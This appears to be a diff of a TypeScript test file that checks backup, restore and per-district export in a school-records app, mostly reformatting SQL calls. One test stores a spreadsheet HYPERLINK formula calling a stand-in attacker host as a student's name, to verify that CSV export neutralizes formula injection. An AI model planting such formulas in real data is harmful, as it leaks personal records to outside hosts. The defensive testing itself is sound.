@@ -19,7 +19,9 @@ describe.each(ENGINES)('backup, restore and export on %s', (engine) => {
   afterAll(async () => source.drop());
 
   it('backs up every table that holds data (none forgotten when a migration adds one)', async () => {
-    const tables = await source.db.query<{ t: string }>(`SELECT table_name AS t FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'`);
+    const tables = await source.db.query<{ t: string }>(
+      `SELECT table_name AS t FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE'`,
+    );
     const covered = new Set<string>([...BACKUP_TABLES, ...NOT_BACKED_UP]);
     expect(tables.map((r) => r.t).filter((t) => !covered.has(t))).toEqual([]);
   });
@@ -48,7 +50,9 @@ describe.each(ENGINES)('backup, restore and export on %s', (engine) => {
   });
 
   it("exports one district's data as JSON and CSV, without password hashes or another district's rows", async () => {
-    const [lincoln] = await source.db.query<{ id: string }>(`SELECT id::text AS id FROM districts WHERE name LIKE 'Lincoln%'`);
+    const [lincoln] = await source.db.query<{ id: string }>(
+      `SELECT id::text AS id FROM districts WHERE name LIKE 'Lincoln%'`,
+    );
     const dir = path.join(tmp, `export-${engine}`);
     const counts = await exportDistrict(source.db, lincoln!.id, dir);
     const students = JSON.parse(fs.readFileSync(path.join(dir, 'students.json'), 'utf8')) as { district_id: string }[];
@@ -63,10 +67,18 @@ describe.each(ENGINES)('backup, restore and export on %s', (engine) => {
   });
 
   it('writes the export CSVs with a BOM, accented names intact and a formula typed as a name neutralized', async () => {
-    const [lincoln] = await source.db.query<{ id: string }>(`SELECT id::text AS id FROM districts WHERE name LIKE 'Lincoln%'`);
-    const [s] = await source.db.query<{ id: string }>(`SELECT id::text AS id FROM students WHERE district_id = $1::uuid ORDER BY local_id LIMIT 1`, [lincoln!.id]);
+    const [lincoln] = await source.db.query<{ id: string }>(
+      `SELECT id::text AS id FROM districts WHERE name LIKE 'Lincoln%'`,
+    );
+    const [s] = await source.db.query<{ id: string }>(
+      `SELECT id::text AS id FROM students WHERE district_id = $1::uuid ORDER BY local_id LIMIT 1`,
+      [lincoln!.id],
+    );
     const formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")';
-    await source.db.query(`UPDATE students SET first_name = $2, last_name = 'Núñez-Ødegård' WHERE id = $1::uuid`, [s!.id, formula]);
+    await source.db.query(`UPDATE students SET first_name = $2, last_name = 'Núñez-Ødegård' WHERE id = $1::uuid`, [
+      s!.id,
+      formula,
+    ]);
     const dir = path.join(tmp, `export-csv-${engine}`);
     await exportDistrict(source.db, lincoln!.id, dir);
     const bytes = fs.readFileSync(path.join(dir, 'students.csv'));
